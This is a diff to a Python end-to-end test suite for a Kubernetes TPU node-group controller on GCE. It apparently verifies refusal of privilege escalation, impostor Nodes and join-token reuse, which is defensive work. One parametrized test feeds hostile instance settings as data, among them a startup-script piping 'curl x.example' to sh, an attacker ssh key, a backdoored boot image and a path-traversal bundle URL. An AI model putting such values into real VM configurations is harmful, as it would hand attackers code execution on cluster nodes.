@@ -22,6 +22,7 @@ from tests.rigs.gce import BASE as BASE_URL, Server
 from controller.nodegroups import reconciler as nodegroups
 from controller.nodegroups.compute import GCE
 from controller.runtime.manager import Manager
+from tests.conftest import ROOT
 from tests.crds.test_crds import example
 
 NS_CTRL = "accelnode-system"
@@ -31,13 +32,17 @@ SINGLE = ("tpu/tpunodegroup-single-host.yaml", "v7x-single-host")
 # TPUNodeGroup of the shared control plane, so another test's leftover group (project
 # my-tpu-project, as the examples say) may be provisioned beside ours; it never lands here.
 PROJECT = f"nodegroups-{uuid.uuid4().hex[:8]}"
+# The operator's rules the groups here run under: the shipped example's (it allows what the
+# upstream operator's manifests in examples/tpu/ ask for), our project added.
+RULES = json.loads((ROOT / "examples/tpu/node-group-rules.json").read_text())
+RULES["*"]["projects"].append(PROJECT)
 
 
 @pytest.fixture(scope="module")
 def nodegroup_rbac(crds, kubectl):
     out = kubectl("admin", "apply", "-f", "daemonsets/namespace.yaml", "-f", "daemonsets/rbac-controller.yaml",
                   "-f", "daemonsets/rbac-controller-nodegroups.yaml",
-                  "-f", "daemonsets/rbac-controller-jointokens.yaml")
+                  "-f", "daemonsets/rbac-controller-jointokens.yaml", "-f", "daemonsets/rbac-controller-events.yaml")
     assert out.returncode == 0, out.stderr
 
 
@@ -55,8 +60,7 @@ class Running:
         self.client = Client(Config.from_kubeconfig(control_plane.kubeconfig("controller")), max_connections=16)
         # the groups may use our project and the examples' (tests/e2e/test_nodegroup_join.py's)
         settings = nodegroups.Settings(**{"namespace": NS_CTRL, "poll": 0.2, "drain_timeout": 5.0,
-                                          "placement": {"*": {"projects": [PROJECT, "my-tpu-project"]}},
-                                          **settings})
+                                          "placement": RULES, **settings})
         self.gce = GCE(endpoint)
         self.manager = Manager(self.client, nodegroups.reconcilers(self.client, settings, self.gce),
                                CollectorRegistry(), workers=2, resync=30)
@@ -115,11 +119,12 @@ def metadata(inst: dict) -> dict:
     return {i["key"]: i.get("value") for i in inst["metadata"].get("items") or []}
 
 
-def _register(admin: Client, inst: dict, project: str, zone: str, ready: bool = True) -> dict:
+def _register(admin: Client, inst: dict, project: str, zone: str, ready: bool = True, claims: str = "") -> dict:
+    """A Node for ``inst`` as its kubelet registers it; ``claims``: another instance named in its providerID."""
     admin.request("POST", "/api/v1/nodes", body={
         "apiVersion": "v1", "kind": "Node",
         "metadata": {"name": inst["name"], "labels": {"kubernetes.io/hostname": inst["name"]}},
-        "spec": {"providerID": f"gce://{project}/{zone}/{inst['name']}"}})
+        "spec": {"providerID": f"gce://{project}/{zone}/{claims or inst['name']}"}})
     node = admin.request("GET", f"/api/v1/nodes/{inst['name']}")
     node["status"] = {"conditions": [{"type": "Ready", "status": "True" if ready else "False", "reason": "KubeletReady",
                                       "message": "kubelet is posting ready status",
@@ -155,11 +160,11 @@ def test_group_lifecycle_join_label_and_teardown(control_plane, nodegroup_rbac, 
         tmpl = next(r for p, r in gce.compute.resources.items() if p.startswith(f"projects/{project}/") and "/instanceTemplates/" in p)
         assert tmpl["properties"]["machineType"] == "ct6e-standard-8t"
         assert tmpl["properties"]["scheduling"]["provisioningModel"] == "SPOT"
-        (secret,) = group_secrets(admin, ns)
-        tid = base64.b64decode(secret["data"]["token-id"]).decode()
+        # a token of its own for each VM, each in the group's ledger
+        tids = {base64.b64decode(s["data"]["token-id"]).decode() for s in group_secrets(admin, ns)}
+        assert len(tids) == 2 and {metadata(i)["kubeadm-join-token"].split(".")[0] for i in insts} == tids
         for i in insts:
             md = metadata(i)
-            assert md["kubeadm-join-token"].startswith(tid + ".")
             assert md["kubeadm-control-plane-ip"] == "10.128.0.2"
             assert md["kubeadm-ca-hash"].startswith("sha256:")
             assert "cloud.google.com/gke-tpu-accelerator=tpu-v6e-slice" in md["kube-labels"]
@@ -332,8 +337,11 @@ def test_rbac_is_enough_and_no_more(nodegroup_rbac, kubectl):
     sa = "system:serviceaccount:accelnode-system:accelnode-controller"
     allowed = [("update", "nodes"), ("create", "pods", "--subresource=eviction"),
                ("update", "tpunodegroups.tpu.google.com", "--subresource=finalizers"),
-               ("create", "secrets", "-n", "kube-system"), ("create", "daemonsets.apps", "-n", NS_CTRL)]
+               ("create", "secrets", "-n", "kube-system"), ("create", "daemonsets.apps", "-n", NS_CTRL),
+               ("watch", "certificatesigningrequests.certificates.k8s.io")]
     denied = [("create", "secrets", "-n", "default"), ("create", "daemonsets.apps", "-n", "default"),
+              ("update", "certificatesigningrequests.certificates.k8s.io", "--subresource=approval"),
+              ("create", "certificatesigningrequests.certificates.k8s.io"),
               ("delete", "pods"), ("patch", "nodes"), ("get", "secrets", "-n", "kube-system")]
     for args in allowed + denied:
         out = kubectl("admin", "auth", "can-i", *args, f"--as={sa}")
@@ -397,10 +405,21 @@ def test_a_namespace_user_naming_another_project_gets_nothing_there(control_plan
     admin.request("POST", custom_path("tpu.google.com", "v1alpha1", "instancetemplates", ns), body={
         "apiVersion": "tpu.google.com/v1alpha1", "kind": "InstanceTemplate", "metadata": {"name": "by-hand"},
         "spec": {"project": victim, "machineType": "tpu7x-standard-4t"}})
+    g = admin.request("GET", tng_path(ns, "v7x-single-host"))
+    owned = {"ownerReferences": [{"apiVersion": "tpu.google.com/v1alpha1", "kind": "TPUNodeGroup", "name": "v7x-single-host",
+                                  "uid": g["metadata"]["uid"], "controller": True}]}
+    # a MIG child (made by whoever may write children) booting from a template that is not its group's
+    admin.request("POST", custom_path("tpu.google.com", "v1alpha1", "managedinstancegroups", ns), body={
+        "apiVersion": "tpu.google.com/v1alpha1", "kind": "ManagedInstanceGroup", "metadata": {"name": "theirs", **owned},
+        "spec": {"project": PROJECT, "location": "us-east5-b", "targetSize": 1,
+                 "instanceTemplate": f"{BASE_URL}projects/{PROJECT}/global/instanceTemplates/privileged-nodes"}})
     with Running(control_plane, gce.endpoint, placement={ns: {"projects": [PROJECT], "zones": ["us-east5-b"]}}):
         g = wait("NotAllowed", lambda: (lambda o: o if cond(o, "Ready").get("reason") == "NotAllowed" else None)(
             get(admin, tng_path(ns, "v7x-single-host"))))
         assert victim in cond(g, "Ready")["message"]
+        m = wait("the MIG refused", lambda: (lambda o: o if cond(o, "Ready").get("reason") == "NotAllowed" else None)(
+            get(admin, custom_path("tpu.google.com", "v1alpha1", "managedinstancegroups", ns, "theirs"))))
+        assert "spec.instanceTemplate" in cond(m, "Ready")["message"]
         t = wait("by-hand refused", lambda: (lambda o: o if cond(o, "Ready").get("reason") == "NotAllowed" else None)(
             get(admin, custom_path("tpu.google.com", "v1alpha1", "instancetemplates", ns, "by-hand"))))
         assert "not controlled by a TPUNodeGroup" in cond(t, "Ready")["message"]
@@ -414,9 +433,11 @@ def test_a_namespace_user_naming_another_project_gets_nothing_there(control_plan
         for n in ("v7x-single-host", "wrong-zone"):
             admin.request("DELETE", tng_path(ns, n))
         admin.request("DELETE", custom_path("tpu.google.com", "v1alpha1", "instancetemplates", ns, "by-hand"))
-        wait("gone", lambda: get(admin, tng_path(ns, "v7x-single-host")) is None and get(admin, tng_path(
-            ns, "wrong-zone")) is None and get(admin, custom_path("tpu.google.com", "v1alpha1", "instancetemplates",
-                                                                  ns, "by-hand")) is None)
+        # (the MIG child goes with its group's teardown, as the group's children do)
+        mig = custom_path("tpu.google.com", "v1alpha1", "managedinstancegroups", ns, "theirs")
+        wait("gone", lambda: get(admin, mig) is None and get(admin, tng_path(ns, "v7x-single-host")) is None and get(
+            admin, tng_path(ns, "wrong-zone")) is None and get(admin, custom_path(
+                "tpu.google.com", "v1alpha1", "instancetemplates", ns, "by-hand")) is None)
 
 
 def test_every_resource_carries_the_ownership_marker_and_only_our_vms_get_tokens(
@@ -437,8 +458,9 @@ def test_every_resource_carries_the_ownership_marker_and_only_our_vms_get_tokens
             else:
                 assert token in r["description"].split(), r
         g = admin.request("GET", tng_path(ns, "v6e-multi-host"))
-        (tid,) = g["status"]["joinTokens"]  # the ledger names the token the VMs got
-        assert {metadata(i)["kubeadm-join-token"].split(".")[0] for i in gce.compute.instances(PROJECT)} == {tid}
+        ledger = g["status"]["joinTokens"]  # the ledger names the tokens the VMs got, one each
+        assert sorted(metadata(i)["kubeadm-join-token"].split(".")[0] for i in gce.compute.instances(PROJECT)) == \
+            sorted(ledger) and len(set(ledger)) == 2
         # a VM the MIG did not make (its created-by says otherwise) gets no token
         c = gce.compute
         with c.lock:
@@ -503,3 +525,241 @@ def test_deletion_policy_orphan_leaves_every_gce_resource_and_the_node(control_p
     assert get(admin, f"/api/v1/nodes/{inst['name']}") is not None
     assert group_secrets(admin, ns) == []
     admin.request("DELETE", f"/api/v1/nodes/{inst['name']}")
+
+
+# -- issue 33.5: a namespace admin gets no node-level access through a TPUNodeGroup ------------
+
+
+@pytest.fixture
+def recorder(control_plane):
+    """Events as the controller records them (controller/runtime/events.py), as its identity."""
+    from controller.runtime import events
+
+    r = events.Recorder(Client(Config.from_kubeconfig(control_plane.kubeconfig("controller")))).start()
+    events.install(r)
+    yield r
+    events.install(None)
+    r.stop()
+
+
+def group_events(admin: Client, ns: str, name: str) -> list[dict]:
+    return [e for e in admin.request("GET", f"/api/v1/namespaces/{ns}/events")["items"]
+            if e["involvedObject"]["name"] == name and e["involvedObject"].get("kind") in ("TPUNodeGroup", "", None)]
+
+
+@pytest.mark.parametrize("field, change", [
+    ("spec.instanceConfig.image", {"image": "projects/attacker/global/images/kubelet-with-a-backdoor"}),
+    ("spec.instanceConfig.serviceAccounts[0].scopes", {"serviceAccounts": [{"email": "default", "scopes": [
+        "https://www.googleapis.com/auth/cloud-platform", "https://www.googleapis.com/auth/compute"]}]}),
+    ("spec.instanceConfig.serviceAccounts[0].email", {"serviceAccounts": [{"email": "owner@victim.iam.gserviceaccount.com",
+                                                                           "scopes": []}]}),
+    ("spec.instanceConfig.metadata.startup-script", {"metadata": {"startup-script": "#!/bin/sh\ncurl -s x.example | sh"}}),
+    ("spec.instanceConfig.metadata.startup-script-url", {"metadata": {"startup-script-url": "gs://attacker/x.sh"}}),
+    ("spec.instanceConfig.metadata.user-data", {"metadata": {"user-data": "#cloud-config\nruncmd: [id]"}}),
+    ("spec.instanceConfig.metadata.accelnode-node-bundle-url", {"metadata": {
+        "accelnode-node-bundle-url": "https://storage.googleapis.com/my-tpu-project-accelnode/../attacker/b.tgz"}}),
+    ("spec.instanceConfig.metadata.ssh-keys", {"metadata": {"ssh-keys": "root:ssh-ed25519 AAAA attacker"}}),
+    ("spec.instanceConfig.subnetwork", {"subnetwork": "projects/victim/regions/us-central1/subnetworks/prod"}),
+    ("spec.instanceConfig.networkTags", {"networkTags": ["tpu-nodes", "allow-ssh-from-anywhere"]}),
+])
+def test_a_namespace_admin_cannot_choose_what_runs_on_the_vms(control_plane, nodegroup_rbac, gce, admin, recorder,
+                                                              kube_namespace, field, change):
+    """Issue 33.5: the boot image, service account and scopes, subnetwork, code-running metadata
+    and install sources are the operator's (examples/tpu/node-group-rules.json here). A group
+    asking for another is refused with a condition and an Event naming the field, and GCE hears
+    nothing at all."""
+    ns = kube_namespace
+    obj = example(*SINGLE)
+    obj["metadata"]["namespace"] = ns
+    obj["spec"]["project"] = PROJECT
+    ic = obj["spec"]["instanceConfig"]
+    for k, v in change.items():
+        ic[k] = {**ic[k], **v} if k == "metadata" else v
+    admin.request("POST", custom_path("tpu.google.com", "v1alpha1", "tpunodegroups", ns), body=obj)
+    with Running(control_plane, gce.endpoint):
+        g = wait("NotAllowed", lambda: (lambda o: o if cond(o, "Ready").get("reason") == "NotAllowed" else None)(
+            get(admin, tng_path(ns, "v7x-single-host"))))
+        assert field + ":" in cond(g, "Ready")["message"], cond(g, "Ready")
+        assert recorder.flush()
+        (event,) = [e for e in group_events(admin, ns, "v7x-single-host") if e["reason"] == "NotAllowed"]
+        assert event["type"] == "Warning" and field + ":" in event["message"]
+        time.sleep(0.5)
+        assert gce.compute.stats["requests"] == 0  # not a single call: nothing made, nothing read
+        assert admin.request("GET", custom_path("tpu.google.com", "v1alpha1", "instancetemplates", ns))["items"] == []
+        admin.request("DELETE", tng_path(ns, "v7x-single-host"))
+        wait("group gone", lambda: get(admin, tng_path(ns, "v7x-single-host")) is None)
+    assert group_secrets(admin, ns) == []
+
+
+def test_a_vm_cannot_label_its_node_through_its_metadata(control_plane, nodegroup_rbac, gce, admin, kube_namespace):
+    """Issue 33.5: the VM (root on it, or its service account) can write its own instance
+    metadata; labels that NodeRestriction keeps from kubelets (node-role.kubernetes.io/*,
+    node-restriction.kubernetes.io/*) do not reach its Node through the controller: the Node gets
+    the group's own label set only."""
+    ns = kube_namespace
+    with Running(control_plane, gce.endpoint):
+        make_group(admin, ns, SINGLE)
+        (inst,) = wait("the VM offered a join", lambda: [
+            i for i in gce.compute.instances(PROJECT) if "kubeadm-join-token" in metadata(i)] or None)
+        c = gce.compute
+        with c.lock:  # as the VM's setMetadata would
+            res = next(r for r in c.resources.values() if r.get("name") == inst["name"])
+            res["metadata"]["items"] = [i for i in res["metadata"]["items"] if i["key"] != "kube-labels"] + [{
+                "key": "kube-labels", "value": "node-role.kubernetes.io/control-plane=,"
+                "node-restriction.kubernetes.io/tier=trusted,cloud.google.com/gke-tpu-topology=16x16"}]
+        _register(admin, inst, PROJECT, "us-central1-c")
+        wait("group Ready", lambda: cond(get(admin, tng_path(ns, "v7x-single-host")), "Ready").get("status") == "True")
+        labels = admin.request("GET", f"/api/v1/nodes/{inst['name']}")["metadata"]["labels"]
+        assert not [k for k in labels if k.startswith(("node-role.kubernetes.io/", "node-restriction.kubernetes.io/"))]
+        assert labels["cloud.google.com/gke-tpu-topology"] == "2x2x1"  # the group's, not the VM's word
+        admin.request("DELETE", tng_path(ns, "v7x-single-host"))
+        wait("group gone", lambda: get(admin, tng_path(ns, "v7x-single-host")) is None, timeout=60)
+
+
+def test_a_node_naming_another_groups_instance_is_not_adopted(control_plane, nodegroup_rbac, gce, admin,
+                                                             kube_namespace):
+    """Issue 33.5: a kubelet chooses its providerID. A Node claiming the group's instance by
+    providerID alone gets neither the group's labels nor taint, does not make the group Ready,
+    and is neither cordoned nor deleted with it; the instance's own Node is."""
+    ns = kube_namespace
+    impostor = f"impostor-{uuid.uuid4().hex[:8]}"
+    with Running(control_plane, gce.endpoint):
+        make_group(admin, ns, SINGLE)
+        (inst,) = wait("the VM offered a join", lambda: [
+            i for i in gce.compute.instances(PROJECT) if "kubeadm-join-token" in metadata(i)] or None)
+        _register(admin, {"name": impostor}, PROJECT, "us-central1-c", claims=inst["name"])  # another's instance
+        time.sleep(1.5)
+        node = admin.request("GET", f"/api/v1/nodes/{impostor}")
+        assert "cloud.google.com/tpu-node-group" not in node["metadata"]["labels"]
+        assert not [t for t in node["spec"].get("taints") or [] if t["key"] == "google.com/tpu"]
+        g = get(admin, tng_path(ns, "v7x-single-host"))
+        assert cond(g, "Ready")["status"] == "False" and g["status"]["nodeSummary"]["ready"] == 0
+        _register(admin, inst, PROJECT, "us-central1-c")  # the instance's own Node
+        wait("group Ready", lambda: cond(get(admin, tng_path(ns, "v7x-single-host")), "Ready").get("status") == "True")
+        admin.request("DELETE", tng_path(ns, "v7x-single-host"))
+        wait("group gone", lambda: get(admin, tng_path(ns, "v7x-single-host")) is None, timeout=60)
+    node = get(admin, f"/api/v1/nodes/{impostor}")
+    assert node is not None and not node["spec"].get("unschedulable")
+    assert get(admin, f"/api/v1/nodes/{inst['name']}") is None
+    admin.request("DELETE", f"/api/v1/nodes/{impostor}")
+
+
+def token_refused(control_plane, token: str) -> bool:
+    """Whether the API server refuses the join token (401: its Secret is gone)."""
+    from tests.controller.test_jointokens import whoami
+
+    try:
+        whoami(control_plane, token)
+    except KubeError as e:
+        return e.code == 401
+    return False
+
+
+def test_a_join_token_joins_one_vm_and_is_revoked_once_it_has(control_plane, nodegroup_rbac, gce, admin,
+                                                             kube_namespace):
+    """Issue 33.5: each VM gets a token of its own, and the API server stops taking it the moment
+    that VM's Node exists, while the other VM's still works."""
+    from tests.controller.test_jointokens import whoami
+
+    ns = kube_namespace
+    with Running(control_plane, gce.endpoint):
+        make_group(admin, ns)
+        insts = wait("two VMs offered", lambda: (lambda xs: xs if len(xs) == 2 else None)(
+            [i for i in gce.compute.instances(PROJECT) if "kubeadm-join-token" in metadata(i)]))
+        first, second = (metadata(i)["kubeadm-join-token"] for i in insts)
+        assert first.split(".")[0] != second.split(".")[0]
+        assert whoami(control_plane, first)["username"] == f"system:bootstrap:{first.split('.')[0]}"
+        _register(admin, insts[0], PROJECT, "us-east5-b")  # the first VM joined
+        wait("the first VM's token refused", lambda: token_refused(control_plane, first))
+        assert whoami(control_plane, second)["username"] == f"system:bootstrap:{second.split('.')[0]}"
+        assert "kubeadm-join-token" in metadata(next(i for i in gce.compute.instances(PROJECT)
+                                                     if i["name"] == insts[1]["name"]))
+        admin.request("DELETE", tng_path(ns, "v6e-multi-host"))
+        wait("group gone", lambda: get(admin, tng_path(ns, "v6e-multi-host")) is None, timeout=90)
+    assert group_secrets(admin, ns) == []
+
+
+def test_orphan_and_the_join_token_cap_are_the_operators(control_plane, nodegroup_rbac, gce, admin, kube_namespace,
+                                                         recorder):
+    """Issue 33.5: a namespace whose rule allows no Orphan gets its group deleted with its GCE
+    resources (and an Event naming spec.deletionPolicy); a namespace capped at one join token
+    gets one VM offered at a time."""
+    ns = kube_namespace
+    rules = {"*": RULES["*"], ns: {**RULES["*"], "deletionPolicies": ["Delete"], "maxJoinTokens": 1}}
+    with Running(control_plane, gce.endpoint, placement=rules):
+        make_group(admin, ns)
+        wait("one VM offered", lambda: len([i for i in gce.compute.instances(PROJECT)
+                                           if "kubeadm-join-token" in metadata(i)]) == 1)
+        g = wait("waiting on the cap", lambda: (lambda o: o if "maxJoinTokens" in cond(o, "Ready").get("message", "")
+                                                else None)(get(admin, tng_path(ns, "v6e-multi-host"))))
+        assert len(g["status"]["joinTokens"]) == 1
+        time.sleep(1.0)
+        assert len([i for i in gce.compute.instances(PROJECT) if "kubeadm-join-token" in metadata(i)]) == 1
+        first = next(i for i in gce.compute.instances(PROJECT) if "kubeadm-join-token" in metadata(i))
+        _register(admin, first, PROJECT, "us-east5-b")  # its token spent: the next VM gets one
+        wait("the second VM offered", lambda: any("kubeadm-join-token" in metadata(i) for i in
+                                                  gce.compute.instances(PROJECT) if i["name"] != first["name"]))
+        g = admin.request("GET", tng_path(ns, "v6e-multi-host"))
+        g["spec"]["deletionPolicy"] = "Orphan"
+        admin.request("PUT", tng_path(ns, "v6e-multi-host"), body=g)
+        admin.request("DELETE", tng_path(ns, "v6e-multi-host"))
+        wait("group gone", lambda: get(admin, tng_path(ns, "v6e-multi-host")) is None, timeout=90)
+        assert recorder.flush()
+        assert any(e["reason"] == "NotAllowed" and "spec.deletionPolicy" in e["message"]
+                   for e in group_events(admin, ns, "v6e-multi-host"))
+    assert not [p for p in gce.compute.resources if p.startswith(f"projects/{PROJECT}/")]
+    assert get(admin, f"/api/v1/nodes/{first['name']}") is None
+
+
+def kubelet_csr(control_plane, token: str, node: str) -> dict:
+    """What a kubelet's TLS bootstrap does with the join token: a client-certificate request for
+    ``system:node:<node>``, made as the token's bootstrap user (kubeadm's auto-approval signs it)."""
+    from cryptography import x509
+    from cryptography.hazmat.primitives import hashes, serialization
+    from cryptography.hazmat.primitives.asymmetric import ec
+    from cryptography.x509.oid import NameOID
+
+    key = ec.generate_private_key(ec.SECP256R1())
+    req = x509.CertificateSigningRequestBuilder().subject_name(x509.Name([
+        x509.NameAttribute(NameOID.ORGANIZATION_NAME, "system:nodes"),
+        x509.NameAttribute(NameOID.COMMON_NAME, f"system:node:{node}")])).sign(key, hashes.SHA256())
+    c = Client(Config(control_plane.url, str(control_plane.ca_file), token=token))
+    return c.request("POST", "/apis/certificates.k8s.io/v1/certificatesigningrequests", body={
+        "apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest",
+        "metadata": {"generateName": "node-csr-"},
+        "spec": {"request": base64.b64encode(req.public_bytes(serialization.Encoding.PEM)).decode(),
+                 "signerName": "kubernetes.io/kube-apiserver-client-kubelet",
+                 "usages": ["digital signature", "client auth"]}})
+
+
+def test_a_join_token_is_revoked_at_its_first_use(control_plane, nodegroup_rbac, gce, admin, kube_namespace):
+    """Issue 33.5: whoever reads the VM's metadata first (the token is there for anyone with
+    compute.instances.get) gets one node certificate with it, not one per node name: once a
+    certificate is issued to a request made with the token, the token is revoked, before any
+    Node exists, and the VM is not given another."""
+    from tests.controller.test_jointokens import whoami
+
+    ns = kube_namespace
+    with Running(control_plane, gce.endpoint):
+        make_group(admin, ns, SINGLE)
+        (inst,) = wait("the VM offered a join", lambda: [
+            i for i in gce.compute.instances(PROJECT) if "kubeadm-join-token" in metadata(i)] or None)
+        token = metadata(inst)["kubeadm-join-token"]
+        csr = kubelet_csr(control_plane, token, inst["name"])
+        wait("the certificate issued", lambda: (get(admin, "/apis/certificates.k8s.io/v1/certificatesigningrequests/"
+                                                   + csr["metadata"]["name"]) or {}).get("status", {}).get("certificate"))
+        wait("the token refused", lambda: token_refused(control_plane, token))
+        with pytest.raises(KubeError) as err:  # a second node name: not with this token
+            kubelet_csr(control_plane, token, "another-node")
+        assert err.value.code == 401
+        time.sleep(1.0)
+        g = admin.request("GET", tng_path(ns, "v7x-single-host"))
+        assert not g["status"].get("joinTokens") and group_secrets(admin, ns) == []  # no other token for the VM
+        assert metadata(gce.compute.instances(PROJECT)[0])["kubeadm-join-token"] == token
+        assert "has used its join token" in cond(g, "Ready")["message"]
+        _register(admin, inst, PROJECT, "us-central1-c")
+        wait("group Ready", lambda: cond(get(admin, tng_path(ns, "v7x-single-host")), "Ready").get("status") == "True")
+        wait("join metadata withdrawn", lambda: "kubeadm-join-token" not in metadata(gce.compute.instances(PROJECT)[0]))
+        admin.request("DELETE", tng_path(ns, "v7x-single-host"))
+        wait("group gone", lambda: get(admin, tng_path(ns, "v7x-single-host")) is None, timeout=60)
+    admin.request("DELETE", "/apis/certificates.k8s.io/v1/certificatesigningrequests/" + csr["metadata"]["name"])
